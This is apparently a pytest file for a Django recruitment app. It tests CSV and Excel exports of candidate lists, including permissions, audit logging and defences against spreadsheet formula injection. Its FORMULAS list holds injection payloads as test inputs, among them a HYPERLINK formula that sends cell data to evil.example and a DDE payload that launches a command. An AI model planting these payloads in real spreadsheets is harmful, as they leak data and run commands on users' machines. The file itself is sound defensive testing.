"""The list as a spreadsheet: what it holds, for whom, and that no cell of it is calculated."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from typing import Any

import openpyxl
import pytest
from django.contrib.admin.models import LogEntry
from django.test import Client

from ats.tests.desk import HOSTILE, LIST, at_desk, many_people, person, person_with_cv, statements
from candidates import merging
from candidates.models import Candidate, PossibleDuplicate
from candidates.records import Tag
from candidates.spreadsheets import harmless
from candidates.tests.builders import bytes_of
from uploads.ledger import RequestTrace

pytestmark = pytest.mark.django_db
Table = list[list[Any]]
FORMULAS = [
    "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "＝1+1", "＋1", "－1", "＠SUM(A1)",
    "﹦1", "−1+cmd", '=HYPERLINK("http://evil.example/?"&A1)', "=cmd|'/c calc'!A1", "@cmd", "Asha;=1+1", "Asha; =1+1",
    "'=1+1", '";=1+1', "=", "+", "-",
]  # fmt: skip
BEGINS = "=+-@＝＋－＠﹦﹢﹣﹫−"


def as_csv(desk: Client, query: str = "") -> Table:
    response = desk.get(f"{LIST}list.csv{query}")
    assert response.status_code == 200
    assert response.streaming
    content = bytes_of(response)
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def as_xlsx(desk: Client, query: str = "") -> Table:
    response = desk.get(f"{LIST}list.xlsx{query}")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(bytes_of(response)))["Sheet1"]
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.data_type == "f"] == []
    assert [cell.coordinate for row in sheet.iter_rows() for cell in row if cell.hyperlink] == []
    return [[cell if cell is not None else "" for cell in row] for row in sheet.iter_rows(values_only=True)]


both = pytest.mark.parametrize("read", [as_csv, as_xlsx], ids=["csv", "xlsx"])


def names(table: Table) -> list[str]:
    return [row[table[0].index("Name")] for row in table[1:]]


def only(table: Table) -> dict[str, Any]:
    assert len(table) == 2
    return dict(zip(*table, strict=True))


@both
def test_a_line_tells_what_the_record_says(read: Callable[..., Table]) -> None:
    asha, _ = person_with_cv()
    facts = {"full_name": "Zoë Ångström", "headline": "Engineer, senior", "location": "Pune, IN", "total_years": 8.5}
    Candidate.objects.filter(pk=asha.pk).update(**facts, name_is_guess=True)
    Candidate.objects.filter(pk=asha.pk).update(skills=["C++", "Go"], links=["https://github.com/zoe"])
    Tag.objects.create(candidate=asha, name="pool")
    PossibleDuplicate.objects.create(candidate=asha, other=person("Zoe Angstrom", review_status="rejected"))
    line = only(read(at_desk(), "?review_status__exact=new"))
    assert (line["Name"], line["E-mail"], line["Headline"]) == ("Zoë Ångström", asha.email, "Engineer, senior")
    assert (line["Skills"], line["Links"], line["Tags"]) == ("C++, Go", "https://github.com/zoe", "pool")
    assert (line["Review"], line["CV"], float(line["Years of work"])) == ("new", "read", 8.5)
    assert line["To check"] == "name is a guess, possible duplicate"
    assert str(line["Added (UTC)"])[:16] == f"{asha.created_at:%Y-%m-%d %H:%M}"


@both
def test_the_search_and_the_filters_of_the_list_are_those_of_the_file(read: Callable[..., Table]) -> None:
    person("Asha Verma", skills=["Cobol"])
    person("Ben Ode", skills=["Cobol"], review_status="rejected")
    person("Cid Ray", skills=["Java"])
    desk = at_desk()
    assert names(read(desk)) == ["Cid Ray", "Asha Verma", "Ben Ode"]
    assert names(read(desk, "?q=cobol")) == ["Ben Ode", "Asha Verma"]
    assert names(read(desk, "?q=cobol&review_status__exact=rejected")) == ["Ben Ode"]
    assert names(read(desk, "?q=nobody")) == []


def test_the_file_holds_the_whole_list_from_whatever_page_it_is_asked() -> None:
    many_people(120)
    desk = at_desk()
    second = desk.get(LIST).context["cl"].older_url
    found = names(as_csv(desk, second))
    assert len(found) == len(set(found)) == 120
    assert f'href="{LIST}list.csv?' in desk.get(LIST + second).content.decode()


# --- Formulas ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS)
def test_no_formula_is_left_in_a_cell(text: str) -> None:
    shown = harmless(text)
    assert all(part.lstrip(" ")[:1] not in {*BEGINS, "\t", "\r", "\n"} for part in shown.split(";") if part)
    assert not set(shown) & set("\t\r\n")


@pytest.mark.parametrize("text", ["Zoë O'Neil", "C++", "a-b", "x=1", "me@example.com", "", "12; 13"])
def test_honest_words_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


@both
def test_hostile_fields_are_words_in_the_file(read: Callable[..., Table]) -> None:
    for text in [*FORMULAS, *HOSTILE]:
        fields = {"email": text[:254], "location": text, "headline": text, "skills": [text], "links": [text]}
        Tag.objects.create(candidate=person(text, **fields), name=text[:40])
    table = read(at_desk())
    assert len(table) == 1 + len(FORMULAS) + len(HOSTILE)
    for row in table[1:]:
        assert [cell for cell in row if isinstance(cell, str) and cell[:1] in {*BEGINS, "\t", "\r", "\n"}] == []


def test_a_telephone_number_stays_readable() -> None:
    person(phone="+91 98200-00000", headline="+49 (0)30/123")
    desk = at_desk()
    assert only(as_csv(desk))["Telephone"] == "'+91 98200-00000"  # else it would be calculated
    line = only(as_xlsx(desk))  # a cell that is text
    assert (line["Telephone"], line["Headline"]) == ("+91 98200-00000", "+49 (0)30/123")


def test_what_is_too_long_for_a_cell_is_cut() -> None:
    person(skills=["x" * 40_000])
    assert len(only(as_xlsx(at_desk()))["Skills"]) == 32_767


def test_what_is_too_long_for_a_sheet_goes_on_in_the_next(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("candidates.spreadsheets.MOST_LINES", 3)
    many_people(5)
    book = openpyxl.load_workbook(io.BytesIO(bytes_of(at_desk().get(f"{LIST}list.xlsx"))))
    assert [sheet.max_row for sheet in book] == [3, 3, 2]
    assert {sheet["B1"].value for sheet in book} == {"Name"}


# --- Who may, and what stays of it ------------------------------------------------------------------------------------


@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_only_recruiters_and_reviewers_take_a_list(kind: str) -> None:
    person()
    for group in ("Recruiter", "Reviewer"):
        assert at_desk(group).get(f"{LIST}list.{kind}").status_code == 200
    assert at_desk("Ops").get(f"{LIST}list.{kind}").status_code == 403
    assert at_desk("", is_staff=True).get(f"{LIST}list.{kind}").status_code == 302
    assert Client().get(f"{LIST}list.{kind}").status_code == 302
    assert at_desk().post(f"{LIST}list.{kind}").status_code == 405
    assert at_desk().get(f"{LIST}list.ods").status_code in (302, 404)


def test_who_took_which_list_is_in_the_ledger_and_in_each_history() -> None:
    asha = person("Asha Verma")
    as_csv(at_desk(username="meera"), "?q=asha")
    trace = RequestTrace.objects.get()
    assert (trace.operation, trace.user.username, trace.outcome) == ("candidates.export_list", "meera", "SUCCESS")
    assert trace.details == {"format": "csv", "rows": 1, "filters": ["q"]}  # not what was sought: it may be a name
    entry = LogEntry.objects.get()
    assert (entry.object_id, entry.change_message, entry.user.username) == (
        str(asha.pk), "Exported in a list (csv).", "meera",
    )  # fmt: skip


def test_a_filter_that_is_none_is_no_list() -> None:
    person()
    assert at_desk().get(f"{LIST}list.csv?Xanthippe=1").status_code == 400
    assert not RequestTrace.objects.exists()


def test_who_was_merged_is_not_in_the_list_and_who_is_erased_meanwhile_is_left_out() -> None:
    stays, merged, erased = person("Stays"), person("Merged"), person("Erased")
    merging.merge(stays.pk, merged.pk, {}, None)
    response = at_desk().get(f"{LIST}list.csv")
    erased.delete()
    assert names(list(csv.reader(io.StringIO(bytes_of(response).decode("utf-8-sig"))))) == ["Stays"]


def test_a_long_list_costs_a_fixed_number_of_statements_for_each_batch() -> None:
    desk = at_desk()
    many_people(20)
    one = statements(desk, f"{LIST}list.xlsx")
    many_people(400)
    # The estimate under a long list, and on SQLite a long entry into the history, which goes in pieces.
    assert statements(desk, f"{LIST}list.xlsx") <= one + 3
